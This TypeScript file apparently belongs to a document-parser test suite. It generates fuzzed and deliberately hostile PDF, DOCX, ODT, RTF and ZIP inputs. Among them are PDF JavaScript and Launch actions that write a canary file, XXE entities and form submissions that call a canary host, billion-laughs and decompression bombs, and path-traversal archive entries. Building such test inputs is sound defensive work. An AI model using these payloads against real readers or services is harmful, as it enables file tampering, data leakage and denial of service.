import { strToU8, unzipSync, zipSync, zlibSync } from 'fflate'
import { plainPdf } from './plain-pdf.ts'

export type Random = () => number
export type Hostile = Readonly<{ what: string; bytes: Buffer }>

/** A name that nothing may look up and a file that nothing may open or make. */
export type Canary = Readonly<{ file: string; host: string }>

/** One wound to a file's bytes, chosen by the generator: bits, cuts, doubled and swapped stretches, lying numbers. */
export function mutate(bytes: Buffer, random: Random, other: Buffer): Hostile {
  const copy = Buffer.from(bytes)
  const at = (most: number) => Math.floor(random() * Math.max(1, most))
  const kind = at(7)
  switch (kind) {
    case 0: {
      const count = 1 + at(40)
      for (let flips = 0; flips < count; flips++) {
        const place = at(copy.length)
        copy[place] = (copy[place] ?? 0) ^ (1 << at(8))
      }
      return { what: `${count} bits turned`, bytes: copy }
    }
    case 1:
      return { what: 'cut short', bytes: copy.subarray(0, at(copy.length)) }
    case 2: {
      const from = at(copy.length)
      return {
        what: 'a stretch taken out',
        bytes: Buffer.concat([copy.subarray(0, from), copy.subarray(from + at(4000))])
      }
    }
    case 3: {
      const place = at(copy.length)
      const piece = other.subarray(at(other.length), at(other.length) + at(6000))
      return {
        what: 'another file’s stretch put in',
        bytes: Buffer.concat([copy.subarray(0, place), piece, copy.subarray(place)])
      }
    }
    case 4: {
      for (let writes = 0; writes < 6 && copy.length > 4; writes++) {
        copy.writeUInt32LE([0, 0xffffffff, 0x7fffffff, 0x80000000, 1, 0xfffffffe][at(6)] ?? 0, at(copy.length - 4))
      }
      return { what: 'numbers that lie', bytes: copy }
    }
    case 5: {
      const text = copy.toString('latin1').replace(/\d+/g, (digits) => (random() < 0.06 ? String(at(2 ** 31)) : digits))
      return { what: 'written numbers that lie', bytes: Buffer.from(text, 'latin1') }
    }
    default: {
      const from = at(copy.length)
      copy.fill(at(256), from, Math.min(copy.length, from + 1 + at(2000)))
      return { what: 'a stretch overwritten', bytes: copy }
    }
  }
}

/** A wound inside a ZIP: one of its parts is wounded and packed again, so that the reader of the part meets it. */
export function mutateInside(bytes: Buffer, random: Random): Hostile {
  const parts = unzipSync(bytes)
  const names = Object.keys(parts)
  const name = names[Math.floor(random() * names.length)] ?? ''
  const { what, bytes: wounded } = mutate(
    Buffer.from(parts[name] ?? []),
    random,
    Buffer.from(parts[names[0] ?? ''] ?? [])
  )
  return { what: `${name}: ${what}`, bytes: Buffer.from(zipSync({ ...parts, [name]: wounded }, { level: 1 })) }
}

/** PDFs made to harm: actions, scripts, forms, chains that bite their tail, streams that swell, names that lie. */
export function hostilePdfs(canary: Canary): readonly Hostile[] {
  const page = [{ font: 'Arial', text: 'Van phong Huyen uy gui lich hop' }]
  const named = (what: string, extra: string): Hostile => ({ what, bytes: plainPdf([page], extra) })
  const script = `require('fs').writeFileSync('${canary.file}','x');globalThis.canary=1`
  const swollen = Buffer.from(zlibSync(new Uint8Array(60_000_000), { level: 9 })).toString('latin1')
  const bomb = (filters: string, data: string) =>
    Buffer.from(
      plainPdf([page])
        .toString('latin1')
        .replace(
          /<<\/Length \d+>>\nstream\n[\s\S]*?\nendstream/,
          () => `<</Length ${data.length}${filters}>>\nstream\n${data}\nendstream`
        ),
      'latin1'
    )
  return [
    named('JavaScript at opening', `/OpenAction<</S/JavaScript/JS(${script.replace(/[()]/g, '\\$&')})>>`),
    named(
      'a program to launch',
      `/OpenAction<</S/Launch/F(/usr/bin/touch)/Win<</F(cmd.exe)/P(/c echo x > ${canary.file})>>>>`
    ),
    named(
      'an address to open',
      `/OpenAction<</S/URI/URI(http://${canary.host}/)>>/AA<</WC<</S/GoToR/F(//${canary.host}/a.pdf)>>>>`
    ),
    named(
      'a form sent away',
      `/AcroForm<</XFA(<xdp>)/Fields[]>>/OpenAction<</S/SubmitForm/F(http://${canary.host}/)>>`
    ),
    named('arrays within arrays', `/X ${'['.repeat(50_000)}${']'.repeat(50_000)}`),
    named('dictionaries within dictionaries', `/X ${'<</X '.repeat(20_000)}1${'>>'.repeat(20_000)}`),
    { what: 'a stream that swells', bytes: bomb('/Filter/FlateDecode', swollen) },
    {
      what: 'a stream of letters without end',
      bytes: bomb('', `BT /F3 12 Tf ${'(AAAAAAAAAA) Tj '.repeat(60_000)} ET`)
    },
    { what: 'a JBIG2 stream that is none', bytes: bomb('/Filter/JBIG2Decode', 'x'.repeat(5000)) },
    { what: 'a JPX stream that is none', bytes: bomb('/Filter[/JPXDecode/JPXDecode]', '\x00\x00\x00\x0cjP  ') },
    {
      what: 'pages that are their own parents',
      bytes: Buffer.from(
        plainPdf([page]).toString('latin1').replace('/Kids[4 0 R]', '/Kids[2 0 R 2 0 R 4 0 R]'),
        'latin1'
      )
    },
    {
      what: 'a hundred million pages',
      bytes: Buffer.from(plainPdf([page]).toString('latin1').replace('/Count 1', '/Count 100000000'), 'latin1')
    },
    {
      what: 'a font with a script in its matrix',
      bytes: Buffer.from(
        plainPdf([page])
          .toString('latin1')
          .replace(
            '/Subtype/TrueType',
            `/Subtype/Type1/FontMatrix[1 2 3 4 5 (0\\);${script.replace(/[()]/g, '\\$&')}//)]`
          ),
        'latin1'
      )
    },
    { what: 'a lone head', bytes: Buffer.from('%PDF-1.7\n%%EOF') },
    {
      what: 'a lock that is none',
      bytes: Buffer.from(
        plainPdf([page])
          .toString('latin1')
          .replace('/Root 1 0 R', '/Root 1 0 R/Encrypt<</Filter/Standard/V 5/R 6/Length 256/P -1/O(x)/U(x)>>'),
        'latin1'
      )
    }
  ]
}

/** Word-processor files made to harm. */
export function hostileDocuments(canary: Canary, docx: Buffer): readonly Hostile[] {
  const odt = (content: string, more: Record<string, Uint8Array> = {}): Buffer =>
    Buffer.from(
      zipSync({
        mimetype: [strToU8('application/vnd.oasis.opendocument.text'), { level: 0 }],
        'content.xml': strToU8(content),
        ...more
      })
    )
  const word = (content: string, more: Record<string, Uint8Array> = {}): Buffer =>
    Buffer.from(zipSync({ 'word/document.xml': strToU8(content), '[Content_Types].xml': strToU8('<Types/>'), ...more }))
  const laughs = `<!DOCTYPE l [<!ENTITY a "ha">${Array.from({ length: 20 }, (_, at) => `<!ENTITY ${String.fromCharCode(98 + at)} "${`&${String.fromCharCode(97 + at)};`.repeat(10)}">`).join('')}]>`
  const outside = `<!DOCTYPE x [<!ENTITY e SYSTEM "file://${canary.file}"><!ENTITY % n SYSTEM "http://${canary.host}/x">%n;]>`
  const zeros = new Uint8Array(150_000_000)
  const doors = [odt, word].flatMap((make, at) => [
    { what: `entities that laugh (${at})`, bytes: make(`${laughs}<office:text><text:p>&t;</text:p></office:text>`) },
    { what: `entities from outside (${at})`, bytes: make(`${outside}<office:text>&e;</office:text>`) },
    { what: `a part that swells (${at})`, bytes: make('<x/>', { 'styles.xml': zeros, 'word/styles.xml': zeros }) },
    { what: `deep nesting (${at})`, bytes: make(`<w:document>${'<w:p>'.repeat(200_000)}`) },
    { what: `one tag without end (${at})`, bytes: make(`<office:text><a ${'b'.repeat(3_000_000)}`) },
    {
      what: `names that climb out (${at})`,
      bytes: make('<x/>', { '../../../../tmp/canary': strToU8('x'), 'C:\\x': strToU8('x'), __proto__: strToU8('x') })
    },
    {
      what: `a ZIP in a ZIP in a ZIP (${at})`,
      bytes: make('<x/>', { 'a.zip': zipSync({ 'a.zip': zipSync({ a: zeros.subarray(0, 1_000_000) }) }) })
    },
    {
      what: `pictures from outside (${at})`,
      bytes: make(
        `<office:text><text:p>a<draw:image xlink:href="file://${canary.file}"/><draw:image xlink:href="\\\\${canary.host}\\x"/></text:p></office:text>`
      )
    }
  ])
  const many = zipSync(Object.fromEntries(Array.from({ length: 9000 }, (_, at) => [`f${at}`, new Uint8Array()])), {
    level: 0
  })
  const lying = Buffer.from(docx)
  const end = lying.lastIndexOf(Buffer.from('PK\x05\x06', 'latin1'))
  lying.writeUInt16LE(0xffff, end + 10)
  const sizes = Buffer.from(docx)
  for (let at = sizes.indexOf('PK\x01\x02', 0, 'latin1'); at >= 0; at = sizes.indexOf('PK\x01\x02', at + 4, 'latin1')) {
    sizes.writeUInt32LE(1, at + 24)
    sizes.writeUInt32LE(0x7fffffff, at + 20)
  }
  return [
    ...doors,
    { what: 'nine thousand parts', bytes: Buffer.from(many) },
    { what: 'a directory that lies about its count', bytes: lying },
    { what: 'a directory that lies about sizes', bytes: sizes },
    { what: 'a million parts told', bytes: millionEntries() },
    { what: 'RTF groups without end', bytes: Buffer.from(`{\\rtf1 ${'{'.repeat(2_000_000)}`) },
    { what: 'RTF cells without end', bytes: Buffer.from(`{\\rtf1 ${'\\cell a'.repeat(300_000)}\\row}`) },
    { what: 'RTF binary data longer than the file', bytes: Buffer.from('{\\rtf1\\bin2147483647 x}') },
    {
      what: 'RTF with an object and links',
      bytes: Buffer.from(
        `{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}{\\field{\\*\\fldinst INCLUDEPICTURE "\\\\\\\\${canary.host}\\\\x"}}{\\*\\template file://${canary.host}/x} a}`
      )
    },
    {
      what: 'ODT blanks without end',
      bytes: odt(`<office:text><text:p>${'<text:s text:c="99999999"/>'.repeat(50_000)}</text:p></office:text>`)
    },
    {
      what: 'an ODT row as wide as it is high',
      bytes: odt(
        `<office:text><table:table><table:table-row><table:table-cell><text:p>${'a'.repeat(200_000)}</text:p></table:table-cell><table:table-cell>${'<text:p>b</text:p>'.repeat(20_000)}</table:table-cell></table:table-row></table:table></office:text>`
      )
    }
  ]
}

/** A directory of a million entries, written out: 46 MB of names. */
function millionEntries(): Buffer {
  const entry = Buffer.alloc(47)
  entry.writeUInt32LE(0x02014b50, 0)
  entry.writeUInt16LE(1, 28)
  entry.write('a', 46)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(0xffff, 10)
  end.writeUInt32LE(4, 16)
  return Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(47 * 1_000_000, entry), end])
}
